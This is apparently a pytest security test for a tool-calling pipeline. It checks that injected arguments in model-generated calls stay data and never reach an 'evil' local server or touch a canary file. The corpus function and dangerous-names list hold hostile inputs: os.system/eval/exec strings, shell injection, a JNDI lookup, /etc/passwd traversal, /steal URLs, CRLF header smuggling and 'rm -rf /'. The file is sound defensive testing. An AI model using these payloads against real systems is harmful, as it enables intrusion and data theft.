"""Model output is data: an injection corpus in generated calls goes through the real format
checker, the real execution stage, the isolated Python executor and the REST executor
against a real local HTTP server, and nothing is executed as code, no file is touched, no
shell runs, and no request reaches another host — a second local server plays the "evil"
host and must receive nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import orjson
import pytest

from executors import (
    ApiSpec,
    Dispatcher,
    NetworkPolicy,
    PythonBinding,
    PythonExecutor,
    RestBinding,
    RestExecutor,
    RestParameter,
)
from streamer.stages import ExecutionChecker, FormatChecker
from topics import (
    Call,
    EventMeta,
    ExecPass,
    FormatPass,
    Generation,
    GenerationSettings,
    QueryStyle,
    Reject,
    Sample,
    Tool,
)

from ..executors.rest_server import RunningService, run_service

TARGETS = "tests.security.targets"
LOOPBACK = NetworkPolicy.from_hosts(["127.0.0.1"])  # the local servers here (allowed)


class _Evil(BaseHTTPRequestHandler):
    hits: list[str]

    def _record(self) -> None:
        self.hits.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("content-length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = do_HEAD = _record

    def log_message(self, format: str, *args: Any) -> None:
        return None


@pytest.fixture
def evil() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server on another port: ``(netloc, requests it received)``."""
    hits: list[str] = []
    handler = type("Evil", (_Evil,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def service() -> Iterator[RunningService]:
    with run_service() as running:
        yield running


def corpus(evil: str, canary: Path) -> list[str]:
    """Argument values an attacker-controlled model could write."""
    touch = f"touch {canary}"
    return [
        f"__import__('os').system('{touch}')",
        f"eval(\"__import__('os').system('{touch}')\")",
        f'exec(\'open("{canary}", "w").write("x")\')',
        f"$({touch})",
        f"`{touch}`",
        f"; {touch} #",
        f"| {touch}",
        f"&& {touch}",
        f"{{{{ {touch} }}}}",
        "${jndi:ldap://evil/x}",
        "../../etc/passwd",
        "/etc/passwd",
        f"file://{canary}",
        "..%2F..%2Fetc%2Fpasswd",
        f"http://{evil}/steal",
        f"https://{evil}/steal",
        f"//{evil}/x",
        f"@{evil}",
        f"user:pass@{evil}",
        evil,
        f"a\r\nHost: {evil}",
        f"a\r\nX-Forwarded-Host: {evil}\r\n\r\nGET http://{evil}/ HTTP/1.1",
        f"%0d%0aHost:%20{evil}",
        "\x00nul",
        "%s%s%s%n",
        "ünïcødé/\u2215../",
    ]


def _tools(base_url: str) -> tuple[tuple[Tool, ...], dict[str, ApiSpec]]:
    text = {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]}
    fetch_params = {
        "type": "object",
        "properties": {k: {"type": "string"} for k in ("id", "q", "h", "b")},
        "required": ["id"],
    }
    specs = {
        "echo": ApiSpec.create(
            name="echo", description="Echo text.", parameters=text, source="python:security",
            binding=PythonBinding(module=TARGETS, function="echo"),
        ),
        "fetch": ApiSpec.create(
            name="fetch", description="Fetch a thing.", parameters=fetch_params, source="rest:t",
            binding=RestBinding(
                base_url=base_url, method="POST", path="/_test/echo/{id}/tail",
                parameters=(RestParameter("id", "path"), RestParameter("q", "query"),
                            RestParameter("h", "header"), RestParameter("b", "body")),
            ),
        ),
    }  # fmt: skip
    tools = tuple(Tool(s.name, s.description, s.parameters, api_id=s.id) for s in specs.values())
    return tools, specs


def _generation(tools: tuple[Tool, ...], pairs: list[dict[str, Any]]) -> Generation:
    meta = EventMeta(id="inj", parent_id=None, sample_id="inj", stage="sampler", stage_version="v")
    sample = Sample(meta=meta, style=QueryStyle.SIMPLE, tools=tools,
                    settings=GenerationSettings(pairs=1))  # fmt: skip
    return Generation(meta=meta.child("generator", "g", "0"), sample=sample, model="evil-model",
                      raw=orjson.dumps({"pairs": pairs}).decode())  # fmt: skip


@pytest.mark.slow
@pytest.mark.anyio
async def test_injected_calls_stay_data_end_to_end(
    tmp_path: Path, service: RunningService, evil: tuple[str, list[str]]
) -> None:
    evil_netloc, evil_hits = evil
    canary = tmp_path / "canary"
    values = corpus(evil_netloc, canary)
    tools, specs = _tools(service.base_url)
    pairs: list[dict[str, Any]] = []
    for v in values:
        pairs.append(
            {"query": f"echo {v}", "answers": [{"name": "echo", "arguments": {"text": v}}]}
        )
        args = {"id": v, "q": v, "h": v, "b": v}
        pairs.append({"query": f"fetch {v}", "answers": [{"name": "fetch", "arguments": args}]})
    dangerous_names = [
        "os.system",
        "__import__",
        "eval",
        "exec",
        "subprocess.run",
        "builtins.open",
        "echo; rm -rf /",
        "../echo",
        f"http://{evil_netloc}/echo",
    ]
    for name in dangerous_names:
        pairs.append({"query": "run it", "answers": [{"name": name, "arguments": {"text": "id"}}]})
    # a tool_calls-style string of arguments is parsed as JSON, never evaluated
    pairs.append(
        {
            "query": "as string",
            "answers": [
                {"name": "echo", "arguments": f"__import__('os').system('touch {canary}')"}
            ],
        }
    )

    checker = FormatChecker()
    outputs = await checker.process(_generation(tools, pairs))
    passed = [o.event for o in outputs if isinstance(o.event, FormatPass)]
    rejected = [o.event for o in outputs if isinstance(o.event, Reject)]
    by_query = {r.rejected.query if hasattr(r.rejected, "query") else "": r for r in rejected}
    assert len(outputs) == len(pairs)
    unknown = [r for r in rejected if r.reason == "unknown_function"]
    assert len(unknown) == len(dangerous_names), [(r.reason, r.message) for r in rejected]
    assert any(r.reason == "invalid_json" for r in rejected), by_query
    assert len(passed) == 2 * len(values)

    python = PythonExecutor(workers=1, timeout_s=5.0, allowed_modules={TARGETS})
    rest = RestExecutor(retries=0, policy=LOOPBACK)
    async with Dispatcher(python=python, rest=rest) as dispatcher:
        stage = ExecutionChecker(dispatcher, lambda tool: specs.get(tool.name))
        results: list[ExecPass | Reject] = []
        for event in passed:
            [out] = await stage.process(event)
            assert isinstance(out.event, ExecPass | Reject)
            results.append(out.event)
        # a model naming a function its task does not offer reaches no executor
        shell = Call("os.system", {"command": f"touch {canary}"})
        first = passed[0]
        smuggled = FormatPass(meta=first.meta.child("t", "v", "x"), sample=first.sample,
                              model="evil", pair_index=99, query="q", calls=(shell,))  # fmt: skip
        [out] = await stage.process(smuggled)
        assert isinstance(out.event, Reject) and out.event.reason == "unknown_api"

    assert not canary.exists()
    assert evil_hits == []
    netloc = service.base_url.removeprefix("http://")
    received = service.log.matching("/_test/echo/")
    assert received and all(r.headers["host"] == netloc for r in received)
    for r in received:
        segments = r.raw_path.split("/")
        assert segments[:3] == ["", "_test", "echo"] and segments[-1] == "tail", r.raw_path
        assert len(segments) == 5, r.raw_path  # the id stayed one escaped path segment
    for event, result in zip(passed, results, strict=True):
        call = event.calls[0]
        if call.name == "echo":
            assert isinstance(result, ExecPass), result
            echoed = result.results[0].result
            assert echoed["text"] == call.arguments["text"] and echoed["type"] == "str"
        elif isinstance(result, Reject):
            # header values with CR, LF, NUL or non-ASCII are refused before anything is sent;
            # a path segment Starlette's route cannot match is the server's 404
            assert result.reason in ("invalid_arguments", "http_error"), result.message
        else:
            assert result.results[0].result["headers"]["h"] == call.arguments["h"]


@pytest.mark.anyio
async def test_rest_bindings_pinned_to_the_evil_host_only_by_the_spec(
    evil: tuple[str, list[str]],
) -> None:
    """The control: the evil server does record requests when a *spec* points at it, so its
    empty log above means something."""
    evil_netloc, evil_hits = evil
    spec = ApiSpec.create(
        name="ping", description="", parameters={"type": "object"}, source="rest:t",
        binding=RestBinding(base_url=f"http://{evil_netloc}", method="GET", path="/ping"),
    )  # fmt: skip
    executor = RestExecutor(retries=0, policy=LOOPBACK)
    try:
        outcome = await executor.execute(spec, {})
    finally:
        await executor.aclose()
    assert outcome.ok and evil_hits == ["GET /ping"]
